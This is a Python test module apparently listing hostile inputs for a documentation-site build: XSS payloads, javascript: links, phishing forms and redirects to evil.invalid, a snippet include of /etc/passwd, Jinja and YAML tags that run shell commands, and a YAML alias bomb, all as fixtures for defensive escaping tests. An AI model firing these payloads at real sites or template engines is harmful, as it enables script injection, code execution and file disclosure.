# SPDX-License-Identifier: Apache-2.0
"""Hostile inputs that are code to some reader of the page: HTML, Markdown, Jinja, YAML, a title, a script."""

from __future__ import annotations

from tests.hostile.case import HostileInput, block, inline, titled, top

_OVERLAY = "position:fixed;inset:0;opacity:0;z-index:9999"
_YAML_BOMB = "\n".join(
    f"k{level}: &k{level} [{', '.join([f'*k{level - 1}' if level else 'boom'] * 9)}]" for level in range(9)
)
_ENGLISH = (
    "The Quiet Harbours Authority will open a new quay for small boats before the end of summer.\n\n"
    "Harbours minister Hashem Sadafani said the sign on the quay reads"
    " <script>window.PWNED='english-script'</script> as sailors first painted it.\n\n"
    "Forty sailors and engineers work there.\n"
)

HTML: tuple[HostileInput, ...] = (
    inline("script-tag", "raw HTML script", "<script>RUN</script>"),
    HostileInput(
        "english-script",
        _ENGLISH.encode(),
        "raw HTML script in an English article",
        "builds",
        shown="<script>window.PWNED='english-script'</script>\nForty sailors and engineers work there.",
    ),
    inline("img-onerror", "event handler on an image", '<img src=missing onerror="RUN" alt=x>'),
    block("svg-onload", "block-level raw HTML", '<svg onload="RUN"><g onclick="RUN"></g></svg>'),
    block("details-toggle", "event handler that needs no click", '<details open ontoggle="RUN">نص</details>'),
    inline("upper-case-tag", "tag names in odd case and spacing", "<ScRiPt >RUN</sCrIpT >"),
    block(
        "html-document",
        "a whole HTML document in a text file",
        '<!DOCTYPE html><html><head><title>HACKED</title></head><body onload="RUN"><p>نص</p></body></html>',
    ),
    block("comment-unclosed", "unclosed comment swallows the page", "قبل التعليق <!-- بعد التعليق"),
    block("cdata-unclosed", "unclosed CDATA and processing instruction", "قبل القسم <![CDATA[ <?php بعد القسم"),
    block("textarea-unclosed", "unclosed raw-text elements swallow the page", "<textarea><title><xmp> نص"),
    block(
        "close-article",
        "closing tags leave the layout",
        f'</p></article></main></div></div><div style="{_OVERLAY}">صفحة مزورة</div>',
    ),
    block(
        "style-tag",
        "style injection",
        "<style>body{display:none} *{background:url(//evil.invalid/s)}</style>",
    ),
    block(
        "meta-refresh",
        "redirect without a script",
        '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
    ),
    block("base-href", "base address taken over", '<base href="https://evil.invalid/" target="_parent">'),
    block(
        "iframe-form",
        "frame and phishing form",
        '<iframe src="https://evil.invalid/" srcdoc="<script>top.RUN</script>"></iframe>'
        '<form action="https://evil.invalid/"><input name="key" type="password"><button>ادخل</button></form>',
    ),
    inline(
        "beacon-image",
        "remote tracking image",
        "![x](https://evil.invalid/a.gif) <img src=//evil.invalid/b.gif>",
    ),
    inline(
        "dom-clobber",
        "ids that hide the theme's own elements",
        "<a id=__config></a><form id=__config name=body><input name=base value=//evil.invalid></form>",
    ),
    inline(
        "entities",
        "entities must not be decoded twice",
        "&amp;lt;b&amp;gt; &#60;i&#62; &copy; &#x110000; &#0;",
    ),
    inline("entity-script", "an escaped script stays escaped", "&lt;script&gt;RUN&lt;/script&gt;"),
    block(
        "search-result",
        "markup decoded again in the list of search results",
        "والكلمة النادرة زعنفورة مع &lt;img src=missing onerror=RUN&gt; و<mark onclick=RUN>علامة</mark>",
    ),
)

MARKDOWN: tuple[HostileInput, ...] = (
    inline(
        "attribute-list",
        "attribute list: handler on an overlay",
        f'*نص*{{: onmouseover="RUN" style="{_OVERLAY}" }}',
    ),
    block(
        "attribute-list-block",
        "attribute list: id of the theme",
        'سطر كامل\n{: onclick="RUN" #__search .md-header }',
    ),
    inline("javascript-link", "javascript: link", "[اضغط](javascript:RUN) [وهنا][r]"),
    inline("javascript-autolink", "javascript: autolink", "<javascript:RUN> <data:text/html,x>"),
    inline(
        "javascript-entity",
        "scheme hidden by entities",
        "[اضغط](java&#115;cript&colon;RUN) [وهنا](&#x6A;avascript:RUN)",
    ),
    block("javascript-reference", "javascript: link by reference", '[هنا][r]\n\n[r]: javascript:RUN "عنوان"'),
    block("snippet-project", "snippet of a project file", '--8<-- "mkdocs.yml"'),
    block("snippet-outside", "snippet from outside the project", '--8<-- "../../../../../../../../etc/passwd"'),
    block(
        "snippet-block",
        "snippet in block form",
        "--8<--\nmkdocs.yml\nhttps://evil.invalid/snippet.md\n--8<--",
    ),
    block("mermaid", "diagram with a script", '```mermaid\ngraph LR\nclick A href "javascript:RUN"\n```'),
    block(
        "toc-footnote",
        "control lines for contents, footnotes and abbreviations",
        "[TOC]\n\nنص[^1] وبقية\n\n[^1]: حاشية\n\n*[بيروت]: اسم كاذب\n\n[[_TOC_]]",
    ),
    block(
        "table-fence-list",
        "block syntax in prose",
        "| عمود | آخر |\n|---|---|\n| قيمة | أخرى |\n\n~~~\nسياج\n~~~\n\n- بند\n\n1986. كانت سنة طويلة\n\n"
        '# ليس عنوانا\n\nولا هذا\n===\n\n***\n\n!!! note\n    تنبيه\n\n=== "لسان"',
        shown="| عمود | آخر |\n| قيمة | أخرى |\nسياج\nبند\n1986.\nكانت سنة طويلة\n# ليس عنوانا\nولا هذا\nتنبيه\nلسان",
    ),
    block(
        "tabs-indent",
        "leading tabs and spaces make a code block",
        "\t\tسطر بجدولتين أمامه\n\n        سطر بثمانية فراغات",
    ),
    inline(
        "trailing-signs",
        "backslashes, line breaks and emphasis",
        "سطر\\\\ \\* \\_ **غ** __ط__ _م_ `ش` ~~ح~~ \\",
    ),
    inline(
        "magic-link",
        "addresses, mentions, emoji and critic marks",
        "http://evil.invalid/p?q=1&copy=2 www.evil.invalid me@evil.invalid"
        " @sailor #77 :anchor: ++alt+q++ ==quay== ^^up^^ {++new++} {--old--}",
    ),
    inline("math", "formula signs", r"$12 إلى $15 \(س\) $$ص$$ \[ع\]"),
    inline("jinja-value", "template expression", "{{ 6*131 }} {{ config.site_dir }} {{ environment }}"),
    inline(
        "jinja-command",
        "template expression that runs a command",
        "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}",
    ),
    inline("jinja-broken", "template syntax error must not stop the build", "{% if %} {{ }} {# {% raw %} {%"),
)

YAML: tuple[HostileInput, ...] = (
    top(
        "front-matter",
        "front matter takes the page over",
        "---\ntitle: HACKED\ntemplate: 404.html\nhide: [toc]\n---",
    ),
    top("front-matter-dots", "front matter closed by dots", "---\ntitle: HACKED\nsearch: {exclude: true}\n..."),
    top("multimarkdown-meta", "MultiMarkdown head lines", "Template: main.html\nTitle: HACKED\n"),
    top("yaml-bomb", "alias bomb in article text", f"---\n{_YAML_BOMB}\n---", seconds=2),
    top(
        "yaml-tag",
        "YAML tag that runs a command",
        "---\ntitle: !!python/object/apply:os.system ['touch PWNED']\n---",
    ),
    top(
        "heading-markup",
        "markup in the line that becomes the working title",
        '# <img src=x onerror="RUN"> `x` [y](z)',
    ),
    top("heading-close", "first line closes title and script", "</title></script><script>RUN</script>\n"),
)

TITLES: tuple[HostileInput, ...] = (
    titled("title-script", "script in a title", "<script>RUN</script> رصيف"),
    titled("title-image", "markup in a title", '<img src=x onerror="RUN"> `رصيف` [y](javascript:RUN)'),
    titled("title-close", "title closes its element", "</title></h1></a><script>RUN</script>"),
    titled("title-escaped", "an escaped title decoded again", "&lt;img src=x onerror=RUN&gt; &amp;amp; &quot;"),
    titled("title-attribute", "title leaves an attribute", '" onmouseover="RUN" x=\'رصيف'),
    titled("title-attribute-list", "attribute list in a heading", 'رصيف {: onclick="RUN" #__config }'),
    titled("title-yaml", "title breaks the front matter", "]}\": {{ 6*131 }} &x *y !!z # ' رصيف: %TAG |"),
    titled("title-lines", "title with line ends", "رصيف\n---\ntemplate: 404.html\n", is_shown=False),
    titled(
        "title-jinja",
        "template expression in a title",
        "{{ config.site_dir }} {% include 'main.html' %} رصيف",
    ),
    titled("title-json-ld", "title closes the JSON-LD script", "رصيف</script><script>RUN</script><!--<script>"),
    block(
        "json-ld-close",
        "text closes the JSON-LD script",
        "قال الصدفاني: «</script><script>RUN</script> <!--<script>».",
    ),
)
